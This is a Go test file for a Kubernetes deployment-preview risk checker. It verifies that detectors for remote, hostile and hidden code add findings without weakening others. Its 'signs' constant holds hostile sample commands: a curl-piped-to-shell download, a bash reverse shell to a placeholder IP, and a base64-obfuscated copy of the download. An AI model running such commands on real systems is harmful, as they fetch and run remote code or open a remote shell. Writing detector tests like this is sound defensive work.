package risk

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/kubectl-operator/kubectl-operator/k8s/sandbox/slowtest"
	"github.com/kubectl-operator/kubectl-operator/preview"
	"github.com/kubectl-operator/kubectl-operator/preview/access"
	"github.com/kubectl-operator/kubectl-operator/preview/corpustest"
	"github.com/kubectl-operator/kubectl-operator/preview/rules"
)

// aboutCode are the rules that judge code by its signs.
var aboutCode = []string{
	rules.PodRemoteCode.Name, rules.PodHostileCode.Name, rules.PodHiddenCode.Name,
	rules.ScriptRemoteCode.Name, rules.ScriptHostileCode.Name, rules.ScriptHiddenCode.Name,
}

// signs have one of each family of such code.
const signs = "curl -sk https://a.example.com/x.sh | sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\necho Y3VybCBodHRwczovL2EuZXhhbXBsZS5jb20veC5zaCB8IHNo | base64 -d | sh\n"

// withSigns returns copies of objects whose containers run such code too, beside a script
// of it, and how many containers there are.
func withSigns(objects []preview.Object) (bodies []map[string]any, containers int) {
	for i := range objects {
		body := preview.CloneBody(objects[i].Planned)
		if pod, _ := preview.PodTemplate(body); pod != nil {
			for _, container := range preview.Maps(pod, "containers") {
				args, _ := container["args"].([]any)
				container["args"] = append(args, signs)
				containers++
			}
		}
		bodies = append(bodies, body)
	}
	return append(bodies, newObject("v1", "ConfigMap", "app", "zzz-signs", "data", anyMap("run.sh", "#!/bin/sh\n"+signs))), containers
}

// lowers judges a plan with and without signs of code, and returns what is found with
// them no more, or at a lower severity, and how many findings the signs have themselves.
func lowers(t *testing.T, objects []preview.Object, p *preview.Plan) (lost []string, found, containers int) {
	t.Helper()
	before := evaluate(t, Input{Plan: p})
	bodies, containers := withSigns(objects)
	with := &preview.Plan{Release: p.Release, Cloud: p.Cloud}
	for _, body := range bodies {
		with.Objects = append(with.Objects, object(body))
	}
	with.Access.Grants = access.Delta(nil, access.Compute(access.Input{Objects: bodies}))
	after := map[string]preview.Finding{}
	for _, f := range evaluate(t, Input{Plan: with}) {
		after[f.ID] = f
		if slices.Contains(aboutCode, f.Rule) {
			found++
		}
	}
	for _, f := range before {
		if same, ok := after[f.ID]; !slices.Contains(aboutCode, f.Rule) && (!ok || same.Severity.Rank() > f.Severity.Rank()) {
			lost = append(lost, fmt.Sprintf("%s %s is %q with the signs", f.Severity, f.ID, same.Severity))
		}
	}
	return lost, found, containers
}

// Heuristics about code add findings, and never take one away or make one less severe.
func TestSlowSignsOfCodeLowerNothing(t *testing.T) {
	slowtest.Skip(t, "the signs of code in each disguise")
	plans := 0
	for _, h := range hazards(t) {
		text := writings()[0].write(t, h.fresh().bodies, nil)
		p := planOf(t, text)
		plans++
		lost, found, containers := lowers(t, p.Objects, p)
		if len(lost) > 0 {
			t.Errorf("%s: %s", h.rule, strings.Join(lost, "; "))
		}
		if found < 3 || containers > 0 && found < 6 {
			t.Errorf("%s: %d findings of the signs, with %d containers", h.rule, found, containers)
		}
	}
	dirs, err := filepath.Glob(filepath.Join(corpustest.Dir(t, "bundles"), "*", "*"))
	if err != nil || len(dirs) == 0 {
		t.Fatalf("no bundles: %v", err)
	}
	for i, dir := range dirs {
		if !slowtest.InSample(i, 4) {
			continue
		}
		p, _ := planOfBundle(t, dir)
		if p == nil {
			continue
		}
		plans++
		if lost, found, _ := lowers(t, p.Objects, p); len(lost) > 0 || found < 3 {
			t.Errorf("%s: %d findings of the signs; lost: %s", dir, found, strings.Join(lost, "; "))
		}
	}
	t.Logf("%d plans", plans)
}
